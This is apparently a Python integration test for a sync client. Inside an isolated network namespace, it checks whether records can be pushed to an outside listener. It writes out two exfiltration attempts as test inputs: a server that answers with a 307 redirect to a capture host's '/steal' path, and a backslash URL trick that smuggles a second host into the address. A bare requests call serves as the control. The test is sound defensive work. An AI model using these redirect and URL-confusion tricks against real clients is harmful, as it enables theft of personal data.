"""Run inside a private network namespace: does any sync traffic reach a non-loopback listener?

``unshare -n python -m tests.integration.netns_capture`` gives this process a namespace of its
own with only a loopback device; it adds the address 10.1.2.3 to that device, listens there
(the capture listener, standing for a host on the ward network), runs a loopback server that
redirects to it, and tries the attacks through the real client. It prints one JSON line: the
outcome of each attempt and every connection the listener accepted. Nothing leaves the
namespace.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import requests

from counter_app.errors import CounterAppError
from sync.client import ClientConfig, SyncClient

CAPTURE_HOST = "10.1.2.3"
CAPTURE_PORT = 8080
PAYLOAD = {"records": [{"ChuHoSo": "Nguyễn Văn Bình", "SoGiayTo": "001203004567"}]}


def _capture(seen: list[bytes]) -> socket.socket:
    listener = socket.create_server((CAPTURE_HOST, CAPTURE_PORT))

    def accept() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            connection.settimeout(1.0)
            try:
                seen.append(connection.recv(65536))
            except OSError:
                seen.append(b"")
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    return listener


def _redirector() -> ThreadingHTTPServer:
    class Redirect(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.send_response(307)
            self.send_header("Location", f"http://{CAPTURE_HOST}:{CAPTURE_PORT}/steal")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def _attempt(action: Callable[[], object]) -> str:
    try:
        action()
    except CounterAppError as error:
        return f"{error.code}:{error}"
    except Exception as error:  # the control's own failure, reported, not hidden
        return f"raised:{type(error).__name__}"
    return "sent"


def _client(url: str) -> SyncClient:
    config = ClientConfig(url=url, counter_id="1", app_version="t", token="secret-token")
    return SyncClient(config)


def main() -> None:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    subprocess.run(["ip", "addr", "add", f"{CAPTURE_HOST}/32", "dev", "lo"], check=True)
    seen: list[bytes] = []
    listener = _capture(seen)
    redirector = _redirector()
    loop_url = f"http://127.0.0.1:{redirector.server_address[1]}"
    backslash = f"http://{CAPTURE_HOST}:{CAPTURE_PORT}\\@127.0.0.1"
    results = {
        "backslash": _attempt(lambda: _client(backslash).post_batch(PAYLOAD)),
        "redirect": _attempt(lambda: _client(loop_url).post_batch(PAYLOAD)),
    }
    before_control = len(seen)
    # The control: a bare requests call with the same address does reach the listener, so a
    # silent listener above means the client stopped the request, not that it was unreachable.
    results["control"] = _attempt(lambda: requests.post(backslash, json=PAYLOAD, timeout=2))
    after_first_control = len(seen)
    results["redirect_control"] = _attempt(lambda: requests.post(loop_url, json=PAYLOAD, timeout=2))
    listener.close()
    redirector.shutdown()
    print(json.dumps({"results": results, "captured": [before_control, after_first_control,
                      len(seen)]}))  # fmt: skip


if __name__ == "__main__":
    main()
